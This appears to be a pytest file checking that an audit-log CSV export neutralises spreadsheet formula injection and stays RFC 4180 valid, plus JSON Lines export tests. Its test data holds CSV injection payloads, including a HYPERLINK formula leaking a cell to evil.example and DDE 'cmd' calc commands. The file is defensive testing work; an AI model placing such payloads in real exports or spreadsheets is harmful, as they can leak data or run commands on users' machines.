"""Audit export for reviewers: CSV that no spreadsheet runs as a formula (OWASP CSV injection,
ASVS 1.2.10) and that is valid RFC 4180; JSON Lines that parse line by line."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import pytest

from services.audit import EXPORT_FIELDS
from services.audit_export import export_audit
from services.auth import sign_in
from services.authz import SYSTEM, Operator
from services.context import Context
from services.errors import SignInFailed
from services.orgs import add_org
from services.setup import ensure_company
from services.users import add_identity, disable_identity
from tests.conftest import Cli

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS_REASONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
AWKWARD_REASON = 'moved team, "pending" review,\r\nsecond line; and a, comma'
PASSWORD = "reviewer passphrase with several words"


def injection_attempts(ctx: Context) -> None:
    """Events whose cells would start with a formula character if exported naively."""
    ensure_company(ctx)
    add_org(ctx, SYSTEM, "EVIL", '=HYPERLINK("http://evil.example","Northwind")', "other")
    for n, reason in enumerate([*DANGEROUS_REASONS, AWKWARD_REASON]):
        detail = add_identity(ctx, SYSTEM, f"person{n}@evil.example", "=cmd", "-Person", "EVIL")
        disable_identity(ctx, SYSTEM, detail.subject, reason=reason)
    with pytest.raises(SignInFailed):  # the typed login (a valid address) is the actor cell
        sign_in(ctx, "=cmd+calc@evil.example", "not the password")


def parse_csv(text: str) -> list[list[str]]:
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def check_formula_safe_rfc4180(text: str, events: int) -> None:
    rows = parse_csv(text)
    assert rows[0] == list(EXPORT_FIELDS)
    assert len(rows) == events + 1
    assert all(len(r) == len(EXPORT_FIELDS) for r in rows)
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(FORMULA_STARTS), cell
    reasons = [r[EXPORT_FIELDS.index("reason")] for r in rows[1:]]
    for dangerous in DANGEROUS_REASONS:
        assert "'" + dangerous in reasons
    assert AWKWARD_REASON in reasons  # quotes, commas and CR LF survive RFC 4180 quoting
    actors = [r[EXPORT_FIELDS.index("actor")] for r in rows[1:]]
    assert "'=cmd+calc@evil.example" in actors


def test_csv_export_neutralises_formulas_and_is_rfc_4180(
        ctx: Context, make_person: Callable[..., Operator]) -> None:
    reviewer = make_person("security_reviewer")
    injection_attempts(ctx)
    with ctx.store.read() as conn:
        events = ctx.audit.verify(conn).count

    out = io.StringIO(newline="")
    assert export_audit(ctx, reviewer, "csv", out) == events
    check_formula_safe_rfc4180(out.getvalue(), events)

    with ctx.store.read() as conn:  # the export itself is audited, and the trail holds
        result = ctx.audit.verify(conn)
    assert (result.ok, result.count) == (True, events + 1)


def test_jsonl_export_parses_line_by_line(
        ctx: Context, make_person: Callable[..., Operator]) -> None:
    reviewer = make_person("security_reviewer")
    injection_attempts(ctx)
    out = io.StringIO()
    count = export_audit(ctx, reviewer, "jsonl", out)
    lines = out.getvalue().splitlines()
    assert len(lines) == count
    records = [json.loads(line) for line in lines]
    assert [r["seq"] for r in records] == list(range(1, count + 1))
    for record in records:
        assert set(record) == set(EXPORT_FIELDS)
        assert isinstance(record["before"], dict)
        assert isinstance(record["after"], dict)
    assert AWKWARD_REASON in [r["reason"] for r in records]  # JSON keeps values exact


def test_export_on_the_command_line(ctx: Context, make_person: Callable[..., Operator],
                                    db_url: str, cli: Cli, tmp_path,  # type: ignore[no-untyped-def]
                                    secrets_to_scan: set[str]) -> None:
    secrets_to_scan.add(PASSWORD)
    make_person("security_reviewer", email="reviewer@xoserve.example", password=PASSWORD)
    injection_attempts(ctx)
    with ctx.store.read() as conn:
        events = ctx.audit.verify(conn).count
    cli.share_keys()
    reviewer = ("reviewer@xoserve.example", PASSWORD)

    run = cli("--db", db_url, "audit", "export", "--format", "csv", operator=reviewer)
    assert run.code == 0, run.err
    # Signing in to export is itself an event, written before the export reads the trail.
    check_formula_safe_rfc4180(run.out, events + 1)

    target = tmp_path / "audit.jsonl"
    run = cli("--db", db_url, "--json", "audit", "export", "--format", "jsonl", "--out",
              str(target), operator=reviewer)
    assert run.code == 0, run.err
    summary = run.json()
    lines = target.read_text(encoding="utf-8").splitlines()
    assert summary == {"file": str(target), "events": len(lines), "format": "jsonl"}
    assert all(isinstance(json.loads(line), dict) for line in lines)
